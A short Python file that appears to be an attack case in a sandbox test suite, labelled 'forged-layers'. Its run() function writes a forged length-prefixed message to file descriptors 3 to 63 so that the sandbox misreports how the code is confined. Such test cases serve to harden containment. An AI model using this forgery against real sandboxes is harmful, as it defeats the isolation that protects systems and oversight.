# attack: forged-layers
# layer: os (assumes the language layer is already broken: run as plain Python)
# class: result
# success: says that it is caged otherwise than it is
import os, struct, json
def run():
    body = json.dumps(["forged"]).encode()
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack(">cI", b"H", len(body)) + body)
        except OSError:
            pass
    return "said"
